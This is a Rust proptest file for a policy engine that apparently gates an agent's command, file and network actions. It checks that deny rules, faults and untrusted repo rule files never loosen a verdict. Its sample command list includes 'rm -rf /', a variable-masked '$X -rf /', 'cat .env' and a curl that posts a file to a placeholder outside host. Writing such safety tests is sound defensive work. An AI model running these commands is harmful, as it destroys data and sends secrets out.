//! What holds for all rules and calls: a deny rule, a fault and an untrusted repo file never loosen.

use super::*;
use aegis_core::{Fault, Trust};
use proptest::prelude::*;

const COMMANDS: &[&str] = &[
    "ls",
    "make",
    "rm -rf build",
    "rm -rf /",
    "cat .env",
    "curl -d @x https://a.example",
    "git push",
    "$X -rf /",
];

fn action() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec!["deny", "require_approval", "audit", "allow"])
}

fn condition() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "{action_types: [command_exec, file_read, file_delete, network_request]}",
        "{action_types: [command_exec]}",
        "{action_types: [file_delete]}",
        "{commands: [{run: make}]}",
        "{path_patterns: ['env']}",
        "{command_patterns: ['rm']}",
    ])
}

/// Up to five rules with ids of their own.
fn rules(prefix: &'static str) -> impl Strategy<Value = String> {
    prop::collection::vec((action(), condition(), -2..3_i32), 0..5).prop_map(move |rules| {
        let mut text = String::from("rules:\n");
        for (index, (action, condition, priority)) in rules.iter().enumerate() {
            text.push_str(&format!(
                "  - {{id: {prefix}{index}, action: {action}, priority: {priority}, conditions: {condition}}}\n"
            ));
        }
        if rules.is_empty() { "rules: []\n".to_owned() } else { text }
    })
}

fn command() -> impl Strategy<Value = &'static str> {
    prop::sample::select(COMMANDS.to_vec())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

    #[test]
    fn adding_a_deny_rule_never_loosens(
        global in rules("g"), command in command(), condition in condition(), priority in -3..4_i32,
    ) {
        let mut world = World::with_global(&global);
        let before = world.bash(command).verdict();
        let list = global.strip_prefix("rules: []\n").map_or(global.as_str(), |_| "rules:\n");
        let with = format!("{list}  - {{id: added, action: deny, priority: {priority}, conditions: {condition}}}\n");
        let mut tightened = World::with_global(&with);
        prop_assert!(tightened.bash(command).verdict() >= before);
    }

    #[test]
    fn a_fault_never_loosens(global in rules("g"), command in command(), in_repo in any::<bool>()) {
        let mut world = World::with_global(&global);
        let before = world.bash(command).verdict();
        world.policy.faults.push(if in_repo { Fault::in_repo_rules("x") } else { Fault::new("x") });
        prop_assert!(world.bash(command).verdict() >= before);
    }

    #[test]
    fn an_untrusted_repo_file_never_loosens(global in rules("g"), repo in rules("g"), command in command()) {
        let mut world = World::with_global(&global);
        let before = world.bash(command).verdict();
        world.policy.settings.trust = Trust::Required;
        world.repo_rules(&repo, 1);
        prop_assert!(world.bash(command).verdict() >= before);
    }
}
